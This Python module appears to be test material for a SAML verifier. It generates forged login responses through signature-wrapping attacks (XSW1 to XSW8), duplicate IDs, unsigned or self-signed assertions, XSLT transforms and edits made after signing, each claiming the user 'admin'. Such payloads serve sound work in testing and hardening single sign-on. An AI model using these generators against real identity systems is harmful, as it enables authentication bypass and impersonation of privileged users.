"""Wrapping attacks on SAML: a true signature kept in the message, and another assertion put in to be read.

Numbered as in Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), and named for what
newer ones did.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from saml_at_hand import DS, SAML, SAMLP, Login, sign

Attack = Callable[[Login], etree._Element]
_ASSERTION = f"{{{SAML}}}Assertion"
_SIGNATURE = f"{{{DS}}}Signature"
_OBJECT = f"{{{DS}}}Object"
_EXTENSIONS = f"{{{SAMLP}}}Extensions"


def forged(login: Login, new_id: str = "_evil") -> etree._Element:
    """Return an assertion as the attacker would have it: not signed."""
    evil = copy.deepcopy(login)
    evil.assertion_id, evil.session_name, evil.subject = new_id, "admin", "admin"
    return evil.assertion()


def without_signature(element: etree._Element) -> etree._Element:
    bare = copy.deepcopy(element)
    for each in bare.findall(_SIGNATURE):
        bare.remove(each)
    return bare


def signed_whole(login: Login) -> etree._Element:
    """Return a response signed as a whole."""
    return sign(login.response(login.assertion()))


def xsw1(login: Login) -> etree._Element:
    """The signed response is put into its signature; a forged response around it."""
    true = signed_whole(login)
    evil = login.response(forged(login))
    evil.set("ID", "_evil_response")
    signature = copy.deepcopy(true.find(_SIGNATURE))
    assert signature is not None
    signature.append(without_signature(true))
    evil.insert(1, signature)
    return evil


def xsw2(login: Login) -> etree._Element:
    """The signature is detached: beside the response that it signs, in a forged one."""
    true = signed_whole(login)
    evil = login.response(forged(login))
    evil.set("ID", "_evil_response")
    signature = copy.deepcopy(true.find(_SIGNATURE))
    assert signature is not None
    evil.insert(1, without_signature(true))
    evil.insert(2, signature)
    return evil


def xsw3(login: Login) -> etree._Element:
    """A forged assertion before the signed one."""
    return login.response(forged(login), sign(login.assertion()))


def xsw3_behind(login: Login) -> etree._Element:
    return login.response(sign(login.assertion()), forged(login))


def xsw4(login: Login) -> etree._Element:
    """The signed assertion inside the forged one."""
    evil = forged(login)
    evil.append(sign(login.assertion()))
    return login.response(evil)


def _signature_moved(login: Login) -> tuple[etree._Element, etree._Element, etree._Element]:
    true = sign(login.assertion())
    signature = copy.deepcopy(true.find(_SIGNATURE))
    assert signature is not None
    return forged(login), signature, without_signature(true)


def xsw5(login: Login) -> etree._Element:
    """The signature in the forged assertion, the signed one at the end."""
    evil, signature, true = _signature_moved(login)
    evil.insert(1, signature)
    return login.response(evil, true)


def xsw6(login: Login) -> etree._Element:
    """The signed assertion within the signature within the forged one."""
    evil, signature, true = _signature_moved(login)
    signature.append(true)
    evil.insert(1, signature)
    return login.response(evil)


def xsw7(login: Login) -> etree._Element:
    """The forged assertion in Extensions, which may hold anything."""
    root = login.response(sign(login.assertion()))
    extensions = etree.Element(_EXTENSIONS)
    extensions.append(forged(login))
    root.insert(1, extensions)
    return root


def xsw8(login: Login) -> etree._Element:
    """The signed assertion in an Object of the signature."""
    evil, signature, true = _signature_moved(login)
    holder = etree.SubElement(signature, _OBJECT)
    holder.append(true)
    evil.insert(1, signature)
    return login.response(evil)


def same_id(login: Login) -> etree._Element:
    """Two elements of one id: which one is signed is anybody's guess."""
    evil, signature, true = _signature_moved(login)
    evil.set("ID", login.assertion_id)
    evil.insert(1, signature)
    return login.response(evil, true)


def same_id_in_extensions(login: Login) -> etree._Element:
    evil, signature, true = _signature_moved(login)
    evil.set("ID", login.assertion_id)
    evil.insert(1, signature)
    root = login.response(evil)
    extensions = etree.Element(_EXTENSIONS)
    true.tag = f"{{{SAML}}}Evidence"
    extensions.append(true)
    root.insert(1, extensions)
    return root


def signature_only(login: Login) -> etree._Element:
    """The true signature over the forged assertion, whose id it names."""
    evil, signature, _ = _signature_moved(login)
    evil.set("ID", login.assertion_id)
    evil.insert(1, signature)
    return login.response(evil)


def in_status_detail(login: Login) -> etree._Element:
    root = login.response(forged(login))
    status = root.find(f"{{{SAMLP}}}Status")
    assert status is not None
    etree.SubElement(status, f"{{{SAMLP}}}StatusDetail").append(sign(login.assertion()))
    return root


def no_signature(login: Login) -> etree._Element:
    return login.response(forged(login))


def empty_reference(login: Login) -> etree._Element:
    """URI="" means the whole document."""
    root = login.signed()
    for each in root.iter(f"{{{DS}}}Reference"):
        each.set("URI", "")
    return root


def two_references(login: Login) -> etree._Element:
    root = login.signed()
    reference = next(root.iter(f"{{{DS}}}Reference"))
    parent = reference.getparent()
    assert parent is not None
    parent.append(copy.deepcopy(reference))
    return root


def xslt(login: Login) -> etree._Element:
    root = login.signed()
    next(root.iter(f"{{{DS}}}Transform")).set("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
    return root


def namespace_changed(login: Login) -> etree._Element:
    """A second assertion under another namespace."""
    evil = forged(login)
    evil.tag = "{urn:oasis:names:tc:SAML:1.0:assertion}Assertion"
    return login.response(evil, sign(login.assertion()))


def changed_after_signing(login: Login) -> etree._Element:
    root = login.signed()
    name = next(root.iter(f"{{{SAML}}}NameID"))
    name.text = "admin"
    return root


def stranger(login: Login) -> etree._Element:
    """Signed by a key of the attacker's own, whose certificate comes along."""
    return login.signed("attacker")


def sha1(login: Login) -> etree._Element:
    return login.response(sign(login.assertion(), sha1=True))


def encrypted(login: Login) -> etree._Element:
    root = login.response()
    etree.SubElement(root, f"{{{SAML}}}EncryptedAssertion")
    return root


ATTACKS: tuple[Attack, ...] = (
    *(xsw1, xsw2, xsw3, xsw3_behind, xsw4, xsw5, xsw6, xsw7, xsw8),
    *(same_id, same_id_in_extensions, signature_only, in_status_detail, no_signature),
    *(empty_reference, two_references, xslt, namespace_changed, changed_after_signing),
    *(stranger, sha1, encrypted),
)
